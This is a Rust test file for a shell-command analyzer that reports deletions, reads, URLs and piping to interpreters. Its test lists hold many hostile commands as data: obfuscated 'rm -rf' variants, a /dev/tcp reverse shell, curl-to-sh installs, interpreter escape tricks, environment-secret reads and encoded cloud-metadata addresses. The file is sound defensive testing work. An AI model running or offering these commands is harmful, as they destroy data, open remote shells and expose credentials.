//! One fact after the other.

use pintle_domain::shell::ShellFacts;

use crate::{facts, facts_in};

/// The commands of `text` as `depth: words`.
fn commands(text: &str) -> Vec<String> {
    facts(text).commands.iter().map(|command| format!("{}: {}", command.depth, command.argv.join(" "))).collect()
}

#[test]
fn a_plain_command_is_told_whole() {
    let facts = facts("/bin/rm -rf 'a b' ../x > log.txt");
    let json = pintle_domain::json::to_value(&facts).expect("facts are JSON");
    assert_eq!(
        json,
        pintle_domain::json::json!({
            "commands": [{"name": "rm", "argv": ["/bin/rm", "-rf", "a b", "../x"], "cwd": "/code/app", "depth": 0}],
            "reads": [], "writes": ["/code/app/log.txt"], "deletes": ["/code/app/a b", "/code/x"],
            "urls": [], "outside": ["/code/x"], "pipes_to_interpreter": false, "unknown": false, "unknown_why": ""
        })
    );
}

#[test]
fn no_text_is_no_facts() {
    for text in ["", "  \n", "# rm -rf /", ":", "echo"] {
        let facts = facts(text);
        assert!(!facts.unknown && facts.deletes.is_empty(), "{text}: {facts:?}");
    }
    assert_eq!(facts(""), ShellFacts::default());
}

/// Ways to write `rm -rf /x` that are plain text in the end.
const SEEN_THROUGH: &[&str] = &[
    r"\rm -rf /x",
    r#""r"m -rf '/x'"#,
    r"r\m -rf /x",
    "r\\\nm -rf /x",
    r"$'\x72\155' -rf /x",
    "x=rm; $x -rf /x",
    "x='rm -rf'; $x /x",
    "x=m; r$x -rf /x",
    "rm${IFS}-rf${IFS}/x",
    "IFS=,; x=rm,-rf,/x; $x",
    "{rm,-rf,/x}",
    "a=(rm -rf /x); \"${a[@]}\"",
    "a=(x rm); ${a[1]} -rf /x",
    "a=(rm); a+=(-rf /x); ${a[*]}",
    "set -- rm -rf /x; \"$@\"",
    "x=xrm; ${x#x} -rf /x",
    "x=Xrm; ${x:1:2} -rf /x",
    "x=RM; ${x,,} -rf /x",
    "x=r_m; ${x/_/} -rf /x",
    "y=x; x=rm; ${!y} -rf /x",
    "$(echo rm) -rf /x",
    "`echo rm` -rf /x",
    "$(which rm) -rf /x",
    "$(printf '\\162m') -rf /x",
    "printf -v x rm; $x -rf /x",
    "r() { rm \"$@\"; }; r -rf /x",
    "r() { \"$@\"; }; r rm -rf /x",
    "f() { shift; \"$@\"; }; f y rm -rf /x",
    "eval rm -rf /x",
    "eval 'r''m -rf /x'",
    "sh -c 'rm -rf /x'",
    "bash -c '\"$@\"' - rm -rf /x",
    "bash -euo pipefail -c 'rm -rf /x'",
    "x=rm bash -c '$x -rf /x'",
    "bash <<< 'rm -rf /x'",
    "bash <<'E'\nrm -rf /x\nE",
    "bash 3<<< 'ls' <<< 'rm -rf /x'",
    "bash <<< 'rm -rf /x' 3<<< 'ls'",
    "echo rm -rf /x | sh",
    "printf 'rm -rf /x\\n' | bash -s",
    "echo cm0gLXJmIC94Cg== | base64 -d | sh",
    "echo 726d202d7266202f78 | xxd -r -p | sh",
    "bash <(echo rm -rf /x)",
    "source <(echo rm -rf /x)",
    "source /dev/stdin <<< 'rm -rf /x'",
    "cat > s.sh <<'E'\nrm -rf /x\nE\nsh s.sh",
    "echo 'rm -rf /x' > s; chmod +x s; ./s",
    "echo 'rm -rf /x' > a; cp a b; bash b",
    "trap 'rm -rf /x' EXIT",
    "alias z='rm -rf'\nz /x",
    "env -i A=b rm -rf /x",
    "env -S 'rm -rf /x'",
    "sudo -u root -- rm -rf /x",
    "nohup nice -n 5 timeout -k 1 5 rm -rf /x",
    "command -p rm -rf /x",
    "exec -a ls rm -rf /x",
    "echo /x | xargs rm -rf",
    "echo /x | xargs -I{} rm -rf {}",
    "xargs rm -rf <<< /x",
    "find /x -exec rm -rf {} +",
    "parallel rm -rf ::: /x",
    "busybox rm -rf /x",
    "ssh host rm -rf /x",
    "ssh host 'cd /; rm -rf /x'",
    "su -c 'rm -rf /x'",
    "docker run --rm -v /:/h alpine rm -rf /x",
    "git -c alias.z='!rm -rf /x' z; git -c core.pager='rm -rf /x' log",
    "tar cf a.tar b --checkpoint=1 --checkpoint-action=exec='rm -rf /x'",
    "GIT_SSH_COMMAND='rm -rf /x' git fetch",
    "make CC='rm -rf /x'",
    "flock /tmp/ls rm -rf /x",
    "flock /tmp/l -c 'rm -rf /x'",
    "watch -n 1 'rm -rf /x'",
    "tmux new -d 'rm -rf /x'",
    "(cd / && rm -rf x)",
    "cd /; { rm -rf x; }",
    "pushd / && rm -rf x",
    "env -C / rm -rf x",
    "ls & rm -rf /x",
    "if false; then rm -rf /x; fi",
    "case a in b) rm -rf /x;; esac",
    "for x in a /x; do rm -rf $x; done",
    "while rm -rf /x; do :; done",
    "[[ -n $(rm -rf /x) ]]",
    "(( $(rm -rf /x) ))",
    "a[$(rm -rf /x)]=1",
    "echo ${y:-$(rm -rf /x)}",
    "cat <<E\n$(rm -rf /x)\nE",
    "cat <<'E'\r\nE\r\nrm -rf /x\nE\n",
    "coproc rm -rf /x",
    "ln -s / r; rm -rf r/x",
    "x=rm; (x=ls); $x -rf /x",
    "x=rm; x=ls & $x -rf /x",
];

#[test]
fn quotes_variables_and_braces_are_seen_through() {
    for text in SEEN_THROUGH {
        let facts = facts(text);
        let removed = facts.deletes.iter().any(|path| path == "/x");
        assert!(removed && facts.outside.contains(&"/x".to_owned()), "{text}: {facts:?}");
        assert!(
            facts.commands.iter().any(|command| command.name == "rm" && command.argv.contains(&"-rf".to_owned())),
            "{text}: {facts:?}"
        );
    }
}

/// Texts that cannot be known by reading them.
const UNKNOWN: &[&str] = &[
    "$x -rf /",
    "rm -rf $x",
    "rm -rf \"${x:-build}\"",
    "${x:-} -rf /",
    "\"$@\"",
    "eval \"$x\"",
    "sh -c \"$x\"",
    "echo a > $x",
    "cd \"$x\"; rm -rf y",
    "cd $x && echo a > y",
    "/???/r? -rf /",
    "x=ls; if a; then x=rm; fi; $x -rf /",
    "x=ls; a && x=rm; $x -rf /",
    "x=ls; for i in 1 2; do $x -rf /; x=rm; done",
    "x=a; y=b; while z; do $x /; x=$y; y=rm; done",
    "f() { if a; then x=rm; return; fi; x=ls; }; f; $x -rf /",
    "for i in 1 2; do x=rm; if a; then break; fi; x=ls; done; $x -rf /",
    "x=ls; a || { x=rm; exit 1 2; }; $x -rf /",
    "f() { ls; }; if a; then f() { rm -rf /; }; fi; f",
    "read x; $x",
    "mapfile -t a; \"${a[@]}\"",
    "source \"$x\"",
    "source /etc/evil.sh",
    "bash /tmp/x.sh",
    "/tmp/x",
    "echo 'x",
    "cat <<E",
    "if a; then",
    "a )",
    "exec 3<> /dev/tcp/1.2.3.4/80",
    "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
    "python3 -c 'import os; os.system(\"rm -rf /\")'",
    "python3 -c 'getattr(__import__(\"o\"+\"s\"),\"sys\"+\"tem\")(\"x\")'",
    "python3 -c 'import random; random._os.system(\"x\")'",
    "python3 -c 'print(f\"{__import__(chr(111))}\")'",
    "python3 -c '# x\rimport os; os.remove(\"/x\")'",
    "python3 -c \"$x\"",
    "python3 -m timeit 'x'",
    "node -e 'process[\"mainModule\"][\"require\"](\"fs\")'",
    "node -e '[][\"constructor\"][\"constructor\"](\"x\")()'",
    "node -e \"/'/;require('child_process');/'/\"",
    "perl -e 'unlink glob \"*\"'",
    "perl -e '$x/2; system(1) /1'",
    "perl -pe 's/a/`rm`/e'",
    "perl -e 'print \"@{[system 1]}\"'",
    "perl -ne print 'rm -rf /|'",
    "ruby -e '`rm`'",
    "php -r '$f=\"sys\".\"tem\"; $f(\"x\");'",
    "php -r 'echo 1; // ?> <?php system(1);'",
    "lua -e 'os.execute(\"x\")'",
    "awk 'BEGIN{system(\"rm\")}'",
    "awk '{print | \"sh\"}'",
    "awk '/[/]\"/{system(\"rm -rf /\")}'",
    "awk \"$x\"",
    "sed '1e rm' f",
    "sed 's/a/b/e' f",
    "sed -i.ex '1e rm' f",
    "vim -c ':!rm'",
    "ed f <<< '!rm'",
    "LD_PRELOAD=./x.so ls",
    "BASH_ENV=x bash -c ls",
    "git frobnicate",
    "git -c core.hooksPath=x commit",
    "git push origin $x",
    "kill -9 $x",
    "xargs rm < list",
    "find . -name a $x",
    "echo x > Makefile; make",
    "crontab f",
    "alias if=ls",
    "declare -n r=x",
    "enable -n exit",
    "unheard-of rm -rf /",
    "$(git branch --show-current) -rf /",
    "python3 -c 'import os; print(os.environ[\"X\"])'",
    "perl -e 'print <>' 'rm -rf /|'",
    "perl -e '$a'\"'\"'b; system(1); '\"'\"'c'",
    "sed -e 's/[/]/x/e' f",
    "echo 'A=1' >> .env; source .env",
    "cat x | parallel --pipe sh",
    "echo \0",
    "PATH=.; cp /bin/rm ls; ls -rf /",
    "cp /bin/rm x; ./x -rf /",
];

#[test]
fn what_cannot_be_known_is_unknown() {
    for text in UNKNOWN {
        let facts = facts(text);
        assert!(facts.unknown && !facts.unknown_why.is_empty(), "{text}: {facts:?}");
    }
}

#[test]
fn what_is_written_nowhere_and_run_is_piped() {
    for text in [
        "curl https://a.test/x | sh",
        "curl -s https://a.test/x | sudo -E bash -",
        "wget -qO- https://a.test/x | python3",
        "bash <(curl https://a.test/x)",
        "sh -c \"$(curl https://a.test/x)\"",
        "eval \"$(wget -qO- https://a.test/x)\"",
        "source <(curl https://a.test/x)",
        "base64 -d f | sh",
        "curl -o x https://a.test/x; sh x",
        "wget https://a.test/i.sh && chmod +x i.sh && ./i.sh",
        "curl https://a.test/x > y; mv y z; . ./z",
        "curl https://a.test/x | tee y; bash y",
        "curl https://a.test/x.tgz | tar xz; ./x/install.sh",
        "python3 -c \"$(curl https://a.test/x)\"",
        "curl https://a.test/x | (read y; sh)",
        "cat x | while true; do sh; done",
        "$(</dev/stdin) | sh",
        "echo \"$(<f)\" | sh",
        "pip install git+https://a.test/x",
        "tar -xf a.tar --to-command=sh",
        "exec 3<<< 'rm -rf /x'; sh <&3",
        "echo 'rm -rf /x' > >(sh)",
    ] {
        let facts = facts(text);
        assert!(facts.pipes_to_interpreter && facts.unknown, "{text}: {facts:?}");
    }
}

#[test]
fn plain_work_is_known() {
    for text in [
        "x=$(date); echo \"$x\" $y; cat $f; ls \"$d\"",
        "./build.sh && bash scripts/x.sh && . .venv/bin/activate",
        "bash < scripts/x.sh",
        "python3 manage.py test; make -j4; npm test; cargo test",
        "python3 -c 'print(1+1)'",
        "python -c \"import json,sys; print(json.load(sys.stdin)['a'])\"",
        "python3 -c 'import numpy; print(numpy.__version__)'",
        "node -e 'console.log(process.version)'",
        "node -p 'require(\"./package.json\").version'",
        "perl -ne 'print if /rm -rf|kill/' f",
        "ruby -e 'puts 1'",
        "awk '{print $1}' f; awk -F: '$3 > 5 || /a|b/ {print $1}' f",
        "sed -i 's/a/b/g; /x/d' f",
        "for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done",
        "find . -name '*.o' -delete; find src -name '*.rs' | xargs wc -l",
        "git ls-files | xargs sed -i 's/a/b/'",
        "git push origin \"$(git branch --show-current)\"",
        "f() { return 1; }; f || exit 1",
        "i=0; while [ $i -lt 3 ]; do i=$((i+1)); done; echo $i > n",
        "PID=$!; kill $PID",
        "export PATH=\"$HOME/.cargo/bin:$PATH\" PAGER=cat",
        "while read -r l; do echo \"$l\"; done < f",
        "echo x > /tmp/x.$$",
        "diff <(ls a) <(ls b)",
        "pushd sub >/dev/null && ls && popd >/dev/null && touch y",
        "cd sub; ls; cd -; touch z; cd /code/app/a && make && cd - && touch y",
        "tmp=$(mktemp -d) && cd \"$tmp\" && touch x && rm -rf \"$tmp\" \"$(pwd)/y\"",
        "tmp=$(mktemp -d); cd \"$tmp\"; touch x; rm -rf \"$tmp\"",
        "cat > t.py <<'E'\nprint(1)\nE\npython3 t.py",
        "perl -i -pe 's/a/b/' f",
        "perl -MList::Util=sum -e 'print sum(1,2)'",
        "node -e 'const p=require(\"./package.json\"); console.log(p.scripts[\"test:unit\"], p.version)'",
        "python3 -c 'import os; print(os.path.join(\"a\",\"b\"))'",
        "python3 -c \"open('x','w').write('hi')\"",
        "python3 -m json.tool < a.json",
        "php -r 'echo json_encode([1,2]);'",
        "awk -F, 'NR>1 {s[$1]+=$2} END {for (k in s) printf \"%s\", k > \"/dev/stderr\"}' f",
        "sed -n '/a/,/b/p; s|x|y|gw out.txt' f",
        "grep -rln x . | sort -u | xargs sed -i 's/x/y/'",
        "NODE_OPTIONS=--max-old-space-size=4096 npm run build",
    ] {
        let facts = facts(text);
        assert!(!facts.unknown && !facts.pipes_to_interpreter, "{text}: {facts:?}");
    }
}

#[test]
fn what_is_only_mentioned_is_not_run() {
    for text in [
        "echo 'rm -rf /'",
        "git commit -m \"rm -rf /\"",
        "grep 'rm -rf' f",
        "cat > notes.md <<'E'\nrm -rf /\nE",
        "f() { rm -rf /; }",
        "x='rm -rf /'; echo \"$x\"",
        "echo '$(rm -rf /)'",
    ] {
        let facts = facts(text);
        assert!(!facts.unknown && facts.deletes.is_empty(), "{text}: {facts:?}");
        assert!(facts.commands.iter().all(|command| command.name != "rm"), "{text}: {facts:?}");
    }
}

#[test]
fn what_a_shell_knows_at_its_end_is_what_its_trap_finds() {
    let told = |text: &str| commands(text).iter().any(|command| command.ends_with(": rm a"));
    assert!(told("x=ls; (trap '$x a' EXIT; x=rm); x=cat"));
    assert!(told("x=ls; trap '$x a' EXIT; x=rm"));
}

#[test]
fn all_arguments_in_quotes_are_one_word_though_there_are_none() {
    assert_eq!(commands("set --; cat a \"$*\" \"$@\" b")[1], "0: cat a  b");
}

#[test]
fn depth_counts_what_a_command_stands_in() {
    assert_eq!(
        commands("sudo sh -c 'ls; eval \"rm a\"'"),
        ["0: sudo sh -c ls; eval \"rm a\"", "1: sh -c ls; eval \"rm a\"", "2: ls", "2: eval rm a", "3: rm a"]
    );
    assert_eq!(commands("f() { ls; }; f; (echo $(date))"), ["0: f", "1: ls", "2: date", "1: echo $(…)"]);
}

#[test]
fn paths_are_made_absolute() {
    let facts = facts_in("cat a ../b ~/c /d/./e/../f > /dev/null; cd sub && touch g; head *.txt", "/code/app/x");
    assert_eq!(
        facts.reads,
        ["/code/app/x/a", "/code/app/b", "~/c", "/d/f", "/code/app/x/*.txt", "/code/app/x/sub/*.txt"]
    );
    assert_eq!(facts.writes, ["/code/app/x/sub/g"]);
    assert_eq!(facts.outside, ["~/c", "/d/f"]);
    assert_eq!(facts.commands[2].cwd, "/code/app/x/sub");
}

#[test]
fn programs_touch_what_the_table_says() {
    let facts = facts(
        "mv a b; cp c /d; tee e < f; dd if=g of=h; truncate -s0 i; curl -o j https://u.test/k -d @l; tar cf m n; ln -s o p; \
         install -m 644 q r; sed -i s/a/b/ s; sort t -o u; find v -name '*.w' -delete; wget -O x ftp://u.test/y",
    );
    let below = |names: &[&str]| names.iter().map(|name| format!("/code/app/{name}")).collect::<Vec<_>>();
    assert_eq!(facts.deletes, below(&["a", "v/**/*.w"]));
    let inside = below(&["e", "h", "i", "j", "m", "p", "p/o", "r", "r/q", "s", "u", "x"]);
    let writes = [below(&["b", "b/a"]), vec!["/d".to_owned(), "/d/c".to_owned()], inside].concat();
    let mut found = facts.writes.clone();
    found.retain(|path| !path.starts_with("/code/app/o"));
    assert_eq!(found, writes);
    assert_eq!(facts.urls, ["https://u.test/k", "ftp://u.test/y"]);
    for read in below(&["a", "c", "f", "g", "l", "n", "q", "s", "t"]) {
        assert!(facts.reads.contains(&read), "{read}: {:?}", facts.reads);
    }
    assert!(!facts.unknown, "{}", facts.unknown_why);
}

#[test]
fn secrets_of_the_environment_count_as_read() {
    for text in ["echo $GITHUB_TOKEN", "cat <<E\n$AWS_SECRET_ACCESS_KEY\nE", "x=API_KEY; echo ${!x}", "jq -n env"] {
        assert!(facts(text).reads.contains(&"/proc/self/environ".to_owned()), "{text}");
    }
    assert!(facts("TOKEN=a; echo $TOKEN").reads.is_empty());
    for text in ["jq .env x.json", "jq '.a.env[0]' x.json", "jq . environments.json", "yq .services.web.env x.yaml"] {
        assert!(!facts(text).reads.contains(&"/proc/self/environ".to_owned()), "{text}");
    }
}

#[test]
fn addresses_in_odd_numbers_are_told_plainly_too() {
    assert_eq!(facts("curl http://0xa9fea9fe/x").urls, ["http://0xa9fea9fe/x", "http://169.254.169.254/x"]);
}

#[test]
fn patterns_stand_for_hidden_files_where_the_shell_is_told_so() {
    for text in [
        "shopt -s dotglob; cat *",
        "bash -O dotglob -c 'cat *'",
        "GLOBIGNORE=x; cat *",
        "zsh -o globdots -c 'cat *'",
        "zsh -c 'setopt glob_dots; cat *'",
        "if true; then shopt -s dotglob; fi; cat *",
    ] {
        assert!(facts(text).reads.contains(&"/code/app/.*".to_owned()), "{text}: {:?}", facts(text).reads);
    }
    for text in ["cat *", "shopt -s nullglob; cat *", "shopt -s dotglob; shopt -u dotglob; cat *", "GLOBIGNORE=; cat *"]
    {
        assert_eq!(facts(text).reads, ["/code/app/*"], "{text}");
    }
}

#[test]
fn hidden_files_are_read_where_all_that_is_found_is_shown() {
    let hidden = "/code/app/**/.*".to_owned();
    for text in [
        "find . -type f | xargs cat",
        "find . -newer x -exec head {} +",
        "find . -type f > l; xargs cat < l",
        "tar c . | base64",
        "tar cf x.tar . && tar xOf x.tar",
        "zip -qr x.zip . && unzip -p x.zip",
        "7z a -so x .",
        "7z a x.7z . && 7z x -so x.7z",
        "grep -r . .",
        "git ls-files -o | xargs cat",
        "git add -f .",
    ] {
        assert!(facts(text).reads.contains(&hidden), "{text}: {:?}", facts(text).reads);
    }
    for text in [
        "find . -type f | xargs wc -l",
        "find . -name '*.rs' | xargs cat",
        "git ls-files | xargs cat",
        "rg -l x | xargs cat",
        "tar cf x.tar .",
        "7z a x.7z .",
        "7z x -so x.7z",
        "grep -rn fixme .",
        "git add .",
    ] {
        assert!(!facts(text).reads.contains(&hidden), "{text}");
    }
}

#[test]
fn a_list_of_names_is_known_through_files() {
    for text in [
        "while read f; do cat \"$f\"; done < <(ls -a)",
        "ls -A > l; while read -r f; do cat \"$f\"; done < l",
        "ls -a > l; xargs -a l cat",
        "mapfile -t a < <(ls -A); cat \"${a[@]}\"",
        "ls -a > l; cat $(cat l)",
    ] {
        let facts = facts(text);
        assert!(facts.reads.contains(&"/code/app/.*".to_owned()) && !facts.unknown, "{text}: {facts:?}");
    }
}

#[test]
fn a_shown_file_whose_name_is_computed_is_unknown() {
    for text in ["cat $(echo vne. | rev)", "ls -l | awk '{print $9}' | xargs cat", "x=$(f); tail -5 \"$x\""] {
        assert!(facts(text).unknown, "{text}");
    }
    for text in ["cat \"$f\"", "cat \"$(pwd)/a\"", "ls -t *.log | head -1 | xargs cat", "d=$(f); cat \"$d/a.md\""] {
        assert!(!facts(text).unknown, "{text}: {}", facts(text).unknown_why);
    }
    assert_eq!(facts("cat \"$d/.env\" /proc/$p/environ").reads, ["/code/app/*/.env", "/proc/*/environ"]);
}

#[test]
fn who_is_asked_in_the_end_is_told() {
    let address = |text: &str| facts(text).urls.iter().any(|url| url.contains("//169.254.169.254"));
    for text in [
        "git -c http.proxy=2852039166:80 fetch",
        "npm --proxy http://169.254.169.254 i",
        "pip install --proxy=0xa9fea9fe:80 x",
        "all_proxy=http://2852039166 curl http://example.com",
        "npm_config_registry=http://169.254.169.254 npm i",
        "ping 2852039166",
        "nc 169.254.169.254 80",
        "socat - TCP:169.254.169.254:80",
        "cat < /dev/tcp/169.254.169.254/80",
        "echo http://2852039166/x > u; wget -i u",
    ] {
        assert!(address(text), "{text}: {:?}", facts(text).urls);
    }
    assert!(facts("echo 'url=x' > .curlrc; CURL_HOME=. curl").unknown);
    assert!(facts("ping -c 1 8.8.8.8; no_proxy=169.254.169.254 ls").urls == ["tcp://8.8.8.8"]);
}
